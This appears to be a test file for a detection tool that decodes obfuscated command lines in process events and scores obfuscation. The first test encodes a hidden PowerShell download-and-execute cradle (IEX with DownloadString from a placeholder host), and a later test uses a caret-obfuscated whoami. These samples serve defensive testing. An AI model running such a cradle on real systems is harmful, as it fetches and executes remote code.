"""The decode tagger on events: decoded text, layers, score; and the second detection pass end to end."""

from __future__ import annotations

import base64

from shellwatch.decode.commandline import CommandDecoder, platform_of
from shellwatch.events import Event


def _event(line: str, os_type: str | None = "linux") -> Event:
    event: Event = {"process.command_line": line, "event.category": ["process"], "event.type": ["start"]}
    if os_type is not None:
        event["host.os.type"] = os_type
    return event


def test_an_encoded_command_gets_its_decoded_text_layers_and_score() -> None:
    encoded = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16-le")
    )
    event = _event(f"powershell.exe -nop -w hidden -enc {encoded.decode()}", "windows")
    CommandDecoder()(event)
    assert event["shellwatch.decoded.command_line"] == (
        "powershell.exe -nop -w hidden -Command IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
    )
    assert event["shellwatch.decoded.layers"] == ["powershell-encodedcommand"]
    assert isinstance(event["shellwatch.obfuscation.score"], int)
    assert event["shellwatch.obfuscation.score"] >= 35


def test_plain_commands_are_left_as_they_are() -> None:
    event = _event("ls -la /tmp")
    CommandDecoder()(event)
    assert set(event) == {"process.command_line", "event.category", "event.type", "host.os.type"}


def test_script_blocks_are_decoded_too() -> None:
    event: Event = {"powershell.file.script_block_text": "iex ('Get-'+'Process')"}
    CommandDecoder()(event)
    assert event["shellwatch.decoded.script_block_text"] == "Get-Process"


def test_platform() -> None:
    assert platform_of({"host.os.type": "windows"}) == "windows"
    assert platform_of({"process.executable": "C:\\Windows\\System32\\cmd.exe"}) == "windows"
    assert platform_of({"process.executable": "/usr/bin/bash"}) == "unix"
    assert platform_of({}) is None


def test_scripts_written_plainly_are_not_obfuscation() -> None:
    from shellwatch.decode.commandline import decode_command

    for line in (
        'find . -name "*.py" -exec grep -l foo {} \\;',
        'for f in *.log; do gzip "$f"; done',
        "echo $((1+2))",
        "tar czf /tmp/b.tgz /etc && echo done",
    ):
        assert not decode_command(line, "unix").layers, line


def test_text_powershell_reads_itself_gets_no_cmd_exe_layer() -> None:
    # carets in a regex and glued quotes are PowerShell's, never cmd.exe's escapes
    script = 'if ($line -match \'^[a-z]+\\s*$\') { Write-Output "$a""b" }\n' * 3 + "$x = 'a^b'"
    block: Event = {"host.os.type": "windows", "powershell.file.script_block_text": script}
    CommandDecoder()(block)
    assert "shellwatch.decoded.layers" not in block
    line: Event = {
        "host.os.type": "windows",
        "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "process.command_line": "powershell.exe -c \"Get-ChildItem | ? { $_.Name -match '^a^b' }\"",
    }
    CommandDecoder()(line)
    assert "shellwatch.decoded.layers" not in line
    # the same line run by cmd.exe loses its carets
    line["process.executable"] = "C:\\Windows\\System32\\cmd.exe"
    line["process.command_line"] = "cmd /c " + "^".join("whoami")
    CommandDecoder()(line)
    assert line["shellwatch.decoded.layers"] == ["cmd-caret"]
